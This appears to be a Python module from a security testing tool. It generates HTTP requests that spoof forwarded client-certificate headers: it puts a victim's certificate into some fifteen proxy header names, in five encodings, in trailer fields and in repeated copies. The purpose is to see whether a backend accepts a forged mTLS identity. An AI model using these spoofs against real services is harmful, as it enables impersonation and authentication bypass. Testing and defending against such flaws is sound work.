"""Headers in which proxies hand on a client's certificate, and how each spells it."""

import base64
from collections.abc import Callable, Iterable, Mapping, Sequence
from urllib.parse import quote

from keybound.craft.certificates import leaf_der
from keybound.craft.named import named
from keybound.craft.request import Change, Draft

_TRAILERS = 5  # in one request


def _pem(certificate: str) -> str:
    return certificate[: certificate.index("-----END CERTIFICATE-----")] + "-----END CERTIFICATE-----\n"


def _base64(certificate: str) -> str:
    return base64.b64encode(leaf_der(certificate)).decode()


ENCODINGS: Mapping[str, Callable[[str], str]] = {
    "escaped": lambda pem: quote(_pem(pem), safe=""),  # nginx, AWS
    "spaces": lambda pem: _pem(pem).replace("\n", " ").strip(),  # Apache
    "base64": _base64,  # HAProxy, Caddy, Traefik, Azure
    "colons": lambda pem: f":{_base64(pem)}:",  # RFC 9440
    "envoy": lambda pem: f'Hash=0;Cert="{quote(_pem(pem), safe="")}"',
}
"""Every spelling of a certificate (PEM) in a header, by name."""

HEADERS = (
    "Client-Cert",  # RFC 9440
    "Client-Cert-Chain",
    "X-SSL-Client-Cert",  # nginx, HAProxy by habit
    "X-SSL-Client-DER",  # OpenShift's router
    "SSL-Client-Cert",  # ingress-nginx, Keycloak; Apache with underscores
    "X-Client-Cert",
    "X-SSL-Cert",
    "X-Forwarded-Client-Cert",  # Envoy
    "X-Forwarded-Tls-Client-Cert",  # Traefik
    "X-ARR-ClientCert",  # Azure
    "X-Amzn-Mtls-Clientcert",  # AWS ALB
    "X-Amzn-Mtls-Clientcert-Leaf",
    "Cf-Client-Cert-Der-Base64",  # Cloudflare
    "CloudFront-Viewer-Client-Cert",
    "X-Client-Cert-Leaf",  # Google
)
"""Names in use for the header, with who uses them."""


@named
def forwarded(draft: Draft, name: str, encoding: str, presence: Change, *, times: int = 1) -> None:
    """Quote the victim's certificate in header `name`, `times` times; `presence` says what the connection shows."""
    value = ENCODINGS[encoding](draft.identity.certificate or "")
    presence(draft)
    draft.headers += [(name, value)] * times


@named
def in_trailers(draft: Draft, names: Iterable[str], encoding: str, presence: Change) -> None:
    """Quote the victim's certificate in a trailer field of each name, where a proxy may not look."""
    value = ENCODINGS[encoding](draft.identity.certificate or "")
    presence(draft)
    draft.trailers += [(name, value) for name in names]
    draft.headers.append(("Trailer", ", ".join(names)))


@named
def beside(draft: Draft, name: str, encoding: str) -> None:
    """Quote the attacker's certificate in header `name`, and show one's own as ever."""
    draft.headers.append((name, ENCODINGS[encoding](draft.attacker.identity.certificate or "")))


def spoofs(
    names: Iterable[str], presence: Change, *, times: int = 1, encodings: Iterable[str] = tuple(ENCODINGS)
) -> list[Change]:
    """Return the spoofs of the victim's certificate: each name in each encoding."""
    return [forwarded(name, encoding, presence, times=times) for name in names for encoding in encodings]


def trailer_spoofs(names: Sequence[str], presence: Change) -> list[Change]:
    """Return the spoofs in trailer fields, few at once: common servers limit the size of a request."""
    groups = [names[at : at + _TRAILERS] for at in range(0, len(names), _TRAILERS)]
    return [in_trailers(group, encoding, presence) for group in groups for encoding in ENCODINGS]
